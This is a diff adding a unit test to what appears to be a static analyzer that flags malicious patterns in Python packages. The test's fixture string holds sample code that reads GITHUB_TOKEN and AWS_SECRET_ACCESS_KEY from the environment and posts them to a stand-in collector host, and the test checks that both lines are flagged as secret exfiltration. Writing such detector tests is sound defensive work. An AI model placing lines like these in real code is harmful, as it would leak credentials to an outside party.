@@ -44,3 +44,20 @@ def test_a_persistence_path_in_the_cut_middle_is_still_found() -> None:
     )
     report = analyze_source("pkg/__init__.py", source)
     assert any(h.rule == "persistence" and h.line == 16 for h in report.hits), report.hits
+
+
+def test_a_secret_read_by_subscript_of_os_environ_reaching_the_network_is_exfiltration() -> None:
+    source = (
+        "import os\n"
+        "import requests\n"
+        "from os import environ\n"
+        "def send():\n"
+        '    token = os.environ["GITHUB_TOKEN"]\n'
+        '    requests.post("https://collector.invalid/t", data=token)\n'
+        "def send_too():\n"
+        '    requests.post("https://collector.invalid/k", data=environ["AWS_SECRET_ACCESS_KEY"])\n'
+        "def home():\n"
+        '    requests.get("https://api.invalid/", params={"home": os.environ["HOME"]})\n'
+    )
+    hits = {(h.rule, h.line) for h in analyze_source("pkg/mod.py", source).hits}
+    assert hits == {("secret-exfiltration", 6), ("secret-exfiltration", 8)}
